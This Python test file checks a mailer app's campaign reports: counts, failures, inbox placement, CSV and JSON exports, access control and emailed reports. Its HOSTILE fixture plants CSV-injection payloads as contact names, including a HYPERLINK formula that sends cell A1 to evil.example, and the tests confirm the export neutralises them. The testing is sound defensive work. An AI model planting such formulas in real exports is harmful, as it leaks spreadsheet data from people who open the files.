"""A campaign's report (services/reports.py, api/reports.py) after a real send to a
scriptable SMTP server, on SQLite and PostgreSQL: the numbers by send status and by
review status, failures by reason, placement with rates, the per-recipient CSV safe
against spreadsheet formulas, the JSON document, and the report emailed through a
sender account to a real aiosmtpd server."""

from __future__ import annotations

import csv
import email
import email.policy
import io
import json

import httpx
import pytest
import sqlalchemy as sa
from sqlmodel import select

from mailer_app.models import (
    BuiltMessage,
    Contact,
    PlacementResult,
    PlacementRun,
    ReviewDecision,
    SeedAccount,
    Source,
    utcnow,
)
from mailer_app.services import InvalidInput, auth, reports, senders, sending
from mailer_app.services.csv_safety import spreadsheet_safe
from mailer_app.services.workspaces import create_workspace
from mailer_app.settings import get_settings
from tests.sending_fixtures import make_campaign, queue_it
from tests.smtp_fixtures import smtp_auth_server_fixture, smtp_server_fixture  # noqa: F401
from tests.smtp_script import smtp_script_fixture  # noqa: F401

GOOD = [f"ok{i}@example.com" for i in range(4)]
GONE, FULL, LOST, LEFT_OUT = (
    "gone@example.com", "full@example.com", "lost@example.com", "left@example.com",
)  # fmt: skip
HOSTILE = {
    "ok0@example.com": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "ok1@example.com": "+1",
    "ok2@example.com": "-2",
    "ok3@example.com": "@x",
    GONE: "\tTabbed",
    FULL: "\rReturn",
}


@pytest.fixture(autouse=True)
def _settings(monkeypatch):
    monkeypatch.setenv("SEND_RETRY_BASE_SECONDS", "0.2")
    monkeypatch.setenv("SEND_RETRY_CAP_SECONDS", "0.4")
    monkeypatch.setenv("PUBLIC_URL", "https://mail.example.org/")
    get_settings.cache_clear()
    yield
    get_settings.cache_clear()


@pytest.fixture
def sent(session, engine, smtp_script):
    """A campaign of 8 built messages: one excluded by a person, 4 delivered, 2 refused
    (two reasons), one whose answer never came (unknown); one placement run."""
    made = make_campaign(
        session, engine, port=smtp_script.port, emails=[*GOOD, GONE, FULL, LOST, LEFT_OUT],
        queue=False,
    )  # fmt: skip
    left = session.exec(select(BuiltMessage).where(BuiltMessage.email == LEFT_OUT)).one()
    left.decision = ReviewDecision.EXCLUDED
    session.add(left)
    session.commit()
    queue_it(session, made)
    smtp_script.set_rule(GONE, rcpt=550)
    smtp_script.set_rule(FULL, data=552)
    smtp_script.set_rule(LOST, drop_after_dot=True)
    outcome = sending.send_run(run_id=made.run_id, worker="w", engine=engine, budget_seconds=20)
    assert (outcome.sent, outcome.failed, outcome.unknown) == (4, 2, 1)
    hostile = dict(HOSTILE)
    if engine.dialect.name == "sqlite":  # PostgreSQL text cannot hold NUL at all
        hostile[LOST] = "\x00Nul"
    for contact in session.exec(select(Contact).where(Contact.workspace_id == made.workspace_id)):
        if contact.email in hostile:
            contact.first_name = hostile[contact.email]
            session.add(contact)
    _placement(session, made)
    session.commit()
    return made


def _placement(session, made) -> None:
    run = PlacementRun(
        workspace_id=made.workspace_id, campaign_id=made.campaign_id, idempotency_key="rep-1",
        check_offsets_min=[1, 3], status="active",
    )  # fmt: skip
    session.add(run)
    session.flush()
    for i, (esp, placement) in enumerate(
        [("gmail", "inbox"), ("gmail", "spam"), ("outlook", "inbox"), ("outlook", "pending")]
    ):
        seed = SeedAccount(workspace_id=made.workspace_id, email=f"seed{i}@{esp}.test", esp=esp)
        session.add(seed)
        session.flush()
        session.add(
            PlacementResult(
                workspace_id=made.workspace_id, run_id=run.id, seed_id=seed.id, esp=esp,
                token=f"tok-{made.run_id}-{i}", placement=placement, sent_at=utcnow(),
            )
        )  # fmt: skip


def _rows(session, made) -> list[dict]:
    return list(
        reports.recipient_rows(
            session=session, workspace_id=made.workspace_id, campaign_id=made.campaign_id
        )
    )


def test_the_report_counts_sends_reviews_failures_and_placement(session, sent):
    report = reports.campaign_report(
        session=session, workspace_id=sent.workspace_id, campaign_id=sent.campaign_id
    )
    assert report.send_counts == {
        "total": 7, "sent": 4, "failed": 2, "unknown": 1, "queued": 0, "sending": 0,
        "not_sent": 0,
    }  # fmt: skip
    assert report.review.by_status["ready"] == 7
    assert report.review.by_status["excluded"] == 1
    assert report.review.total == 8
    failures = {g.reason: g.count for g in report.progress.failures}
    assert len(failures) == 2 and sum(failures.values()) == 2
    assert any("550" in reason for reason in failures)
    assert any("552" in reason for reason in failures)
    assert [u.email for u in report.progress.unknown_records] == [LOST]
    [run] = report.placement
    overall = run.summary.overall
    assert (overall.inbox, overall.spam, overall.pending, overall.total_checked) == (2, 1, 1, 3)
    assert overall.rate("inbox") == pytest.approx(2 / 3)
    assert run.summary.by_esp["outlook"].rate("inbox") == 1.0
    text = reports.summary_text(report)
    assert "sent 4" in text and "failed 2" in text and "inbox 67%" in text


def test_per_recipient_rows_cover_every_message_and_what_became_of_it(session, sent):
    rows = {r["email"]: r for r in _rows(session, sent)}
    assert set(rows) == {*GOOD, GONE, FULL, LOST, LEFT_OUT}
    assert rows["ok1@example.com"]["send_status"] == "sent"
    assert rows["ok1@example.com"]["sent_at"] and rows["ok1@example.com"]["message_id"]
    assert rows[GONE]["send_status"] == "failed" and "550" in rows[GONE]["last_error"]
    assert rows[LOST]["send_status"] == "unknown"
    left = rows[LEFT_OUT]
    assert (left["send_status"], left["review_status"], left["review_decision"]) == (
        reports.NOT_QUEUED, "excluded", "excluded",
    )  # fmt: skip


def test_the_csv_neutralises_spreadsheet_formulas(session, sent, engine):
    text = "".join(reports.csv_chunks(iter(_rows(session, sent)), rows_per_chunk=2))
    parsed = list(csv.DictReader(io.StringIO(text, newline="")))
    names = {r["email"]: r["first_name"] for r in parsed}
    for address, hostile in HOSTILE.items():
        assert names[address] == "'" + hostile, address
    if engine.dialect.name == "sqlite":
        assert names[LOST] == "'\x00Nul"
    for row in parsed:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "\x00")), row
    assert names["ok0@example.com"].startswith("'=HYPERLINK(")


@pytest.mark.parametrize("value", ["=1+1", "+1", "-2", "@x", "\tx", "\rx", "\x00x"])
def test_every_dangerous_start_is_neutralised(value):
    assert spreadsheet_safe(value) == "'" + value
    assert spreadsheet_safe("plain") == "plain" and spreadsheet_safe(None) == ""


def test_the_json_document_streams_every_recipient(session, sent):
    report = reports.campaign_report(
        session=session, workspace_id=sent.workspace_id, campaign_id=sent.campaign_id
    )
    document = reports.report_document(report)
    text = "".join(reports.json_chunks(document, iter(_rows(session, sent))))
    parsed = json.loads(text)
    assert parsed["campaign"]["id"] == sent.campaign_id
    assert parsed["send"]["counts"]["sent"] == 4
    assert parsed["review"]["by_status"]["excluded"] == 1
    assert parsed["placement"][0]["overall"]["rates"]["inbox"] == pytest.approx(2 / 3)
    assert len(parsed["recipients"]) == 8
    names = {r["email"]: r["first_name"] for r in parsed["recipients"]}
    assert names["ok0@example.com"] == HOSTILE["ok0@example.com"]  # data, not a spreadsheet
    empty = json.loads("".join(reports.json_chunks(document, iter([]))))
    assert empty["recipients"] == []


def _people(session, workspace_id: int) -> dict:
    users = {
        role: auth.create_user(
            session=session,
            workspace_id=workspace_id,
            email=f"{role}-{workspace_id}@x.example",
            password="correct horse battery",
            role=role,
            created_by_id=None,
        )  # fmt: skip
        for role in ("viewer", "editor")
    }
    session.commit()
    return users


@pytest.mark.anyio
async def test_the_exports_are_for_people_of_the_workspace_only(session, sent):
    from mailer_app import routes
    from mailer_app.api import build_api

    users = _people(session, sent.workspace_id)
    other = create_workspace(session=session, name="Other", source=Source.CLI)
    stranger = _people(session, other.id)["editor"]
    tokens = {
        "viewer": auth.start_session(session=session, user=users["viewer"]),
        "stranger": auth.start_session(session=session, user=stranger),
    }
    session.commit()
    transport = httpx.ASGITransport(app=build_api())
    async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1") as client:
        cookies = {"mailer_session": tokens["viewer"]}
        answer = await client.get(routes.campaign_report_csv(sent.campaign_id), cookies=cookies)
        assert answer.status_code == 200
        assert answer.headers["content-type"].startswith("text/csv")
        assert "attachment" in answer.headers["content-disposition"]
        parsed = list(csv.DictReader(io.StringIO(answer.text.lstrip("\ufeff"), newline="")))
        assert len(parsed) == 8
        assert {r["email"]: r["first_name"] for r in parsed}["ok1@example.com"] == "'+1"
        answer = await client.get(routes.campaign_report_json(sent.campaign_id), cookies=cookies)
        assert answer.status_code == 200
        assert answer.json()["send"]["counts"]["failed"] == 2
        assert len(answer.json()["recipients"]) == 8
        url = routes.campaign_report_csv(sent.campaign_id)
        assert (await client.get(url)).status_code == 403
        other_one = await client.get(url, cookies={"mailer_session": tokens["stranger"]})
        assert other_one.status_code == 404
        missing = await client.get(routes.campaign_report_json(999999), cookies=cookies)
        assert missing.status_code == 404


def test_the_report_is_emailed_with_the_csv_attached(session, sent, smtp_server):
    users = _people(session, sent.workspace_id)
    sender = senders.create_sender(
        session=session, workspace_id=sent.workspace_id, user_id=None, name="Reports",
        from_email="reports@example.com", smtp_host=smtp_server.host, smtp_port=smtp_server.port,
        smtp_security="plain", smtp_username=smtp_server.username, password=smtp_server.password,
    )  # fmt: skip
    session.commit()
    done = reports.email_report(
        session=session, workspace_id=sent.workspace_id, campaign_id=sent.campaign_id,
        to="lead@example.org; boss@example.org", user_id=users["editor"].id, sender_id=sender.id,
    )  # fmt: skip
    session.commit()
    assert done.recipients == ("lead@example.org", "boss@example.org")
    assert smtp_server.recorder.successful_logins == [smtp_server.username]
    [data] = smtp_server.recorder.messages
    message = email.message_from_bytes(data, policy=email.policy.default)
    assert message["Subject"] == "Campaign report: Spring"
    assert "sent 4" in message.get_body(("plain",)).get_content()
    [attachment] = list(message.iter_attachments())
    assert attachment.get_filename() == f"campaign-{sent.campaign_id}-report.csv"
    body = attachment.get_content()
    body = body.decode() if isinstance(body, bytes) else body
    parsed = list(csv.DictReader(io.StringIO(body, newline="")))
    assert {r["email"]: r["first_name"] for r in parsed}["ok2@example.com"] == "'-2"
    assert smtp_server.password not in data.decode("utf-8", "replace")


def test_emailing_checks_addresses_and_roles(session, sent):
    users = _people(session, sent.workspace_id)
    with pytest.raises(InvalidInput):
        reports.email_report(
            session=session, workspace_id=sent.workspace_id, campaign_id=sent.campaign_id,
            to="not an address", user_id=users["editor"].id,
        )  # fmt: skip
    with pytest.raises(auth.PermissionDenied):
        reports.email_report(
            session=session, workspace_id=sent.workspace_id, campaign_id=sent.campaign_id,
            to="lead@example.org", user_id=users["viewer"].id,
        )  # fmt: skip


def test_emailing_through_the_campaigns_own_sender_reports_a_refusal(session, sent, smtp_script):
    smtp_script.set_rule("lead@example.org", rcpt=550)
    with pytest.raises(reports.ReportEmailFailed, match="refused"):
        reports.email_report(
            session=session, workspace_id=sent.workspace_id, campaign_id=sent.campaign_id,
            to="lead@example.org", user_id=None,
        )  # fmt: skip
    done = reports.email_report(
        session=session, workspace_id=sent.workspace_id, campaign_id=sent.campaign_id,
        to=["lead@example.org", "team@example.org"], user_id=None,
    )  # fmt: skip
    assert done.recipients == ("team@example.org",) and "refused lead@example.org" in done.detail
    assert smtp_script.received_by_recipient().get("team@example.org") == 1


def test_a_campaign_never_sent_reports_its_built_messages(session, engine, smtp_script):
    made = make_campaign(session, engine, port=smtp_script.port, count=3, queue=False)
    report = reports.campaign_report(
        session=session, workspace_id=made.workspace_id, campaign_id=made.campaign_id
    )
    assert report.progress is None and report.send_counts["total"] == 0
    assert "not been sent" in reports.summary_text(report)
    rows = _rows(session, made)
    assert [r["send_status"] for r in rows] == [reports.NOT_QUEUED] * 3
    assert session.execute(sa.select(sa.func.count()).select_from(BuiltMessage)).scalar() >= 3
